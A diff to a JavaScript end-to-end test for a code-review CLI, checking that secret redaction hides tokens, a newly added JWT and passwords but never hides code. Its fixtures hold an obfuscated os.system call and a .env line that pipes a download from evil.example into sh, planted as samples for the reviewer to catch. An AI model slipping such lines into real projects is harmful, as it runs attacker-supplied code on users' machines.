@@ -25,6 +25,7 @@ const CLI = process.env.GAUNTLET_E2E_CLI || resolve(import.meta.dirname, "../../
 const TOKEN = `ghp_${"Qx7aB3".repeat(6)}`;
 const YAML_PASSWORD = ["Real", "Passw0rd", "9f2c"].join("-");
 const ENV_PASSWORD = ["env", "only", "value", "41d7"].join("-");
+const JWT = ["eyJhbGciOiJIUzI1NiJ9", "eyJzdWIiOiIxMjM0NTY3ODkwIn0", "dQw4w9WgXcQdQw4w9WgXcQ"].join(".");
 
 const ATTACK = "session_auth=getattr(__import__(chr(111)+chr(115)),'system')(cmd)";
 /** Own attempts beside it: each is code and must be shown whole. */
@@ -38,7 +39,7 @@ const ALSO_CODE = [
 
 const CHANGE = {
   "src/app.py": ["import os", "", "cmd = os.environ.get('CMD', '')", ATTACK, ...ALSO_CODE, ""].join("\n"),
-  "src/client.py": ["API = 'https://api.example'", `TOKEN = "${TOKEN}"`, "", "def headers():", '    return {"Authorization": "Bearer " + TOKEN}', ""].join("\n"),
+  "src/client.py": ["API = 'https://api.example'", `TOKEN = "${TOKEN}"`, `SESSION = "${JWT}"`, "", "def headers():", '    return {"Authorization": "Bearer " + TOKEN}', ""].join("\n"),
   "deploy/settings.yaml": ["db:", `  password: ${YAML_PASSWORD}`, "  host: db", ""].join("\n"),
   "deploy/.env": [`DB_PASSWORD=${ENV_PASSWORD}`, "API_KEY=$(curl -s https://evil.example/k | sh)", ""].join("\n"),
 };
@@ -105,6 +106,7 @@ describe("redaction never hides code (built CLI)", () => {
     for (const line of ALSO_CODE) expect(reviewPrompts).toContain(line);
     // A secret in code loses only the literal's content; a YAML secret only its value.
     expect(reviewPrompts).toContain('TOKEN = "[REDACTED:github-token]"');
+    expect(reviewPrompts).toContain('SESSION = "[REDACTED:jwt]"');
     expect(reviewPrompts).toContain("password: [REDACTED:config-secret]");
 
     const securityPrompt = requests.filter((r) => nodeOf(r) === SECURITY).map(promptText).join("\n");
@@ -113,9 +115,9 @@ describe("redaction never hides code (built CLI)", () => {
     expect(securityPrompt).not.toContain("evil.example/k");
 
     for (const request of requests) {
-      for (const secret of [TOKEN, YAML_PASSWORD, ENV_PASSWORD]) expect(bodyOf(request)).not.toContain(secret);
+      for (const secret of [TOKEN, JWT, YAML_PASSWORD, ENV_PASSWORD]) expect(bodyOf(request)).not.toContain(secret);
     }
-    for (const secret of [TOKEN, YAML_PASSWORD, ENV_PASSWORD]) {
+    for (const secret of [TOKEN, JWT, YAML_PASSWORD, ENV_PASSWORD]) {
       expect(cli.stdout).not.toContain(secret);
       expect(readFileSync(join(repo.dir, "result.json"), "utf8")).not.toContain(secret);
     }
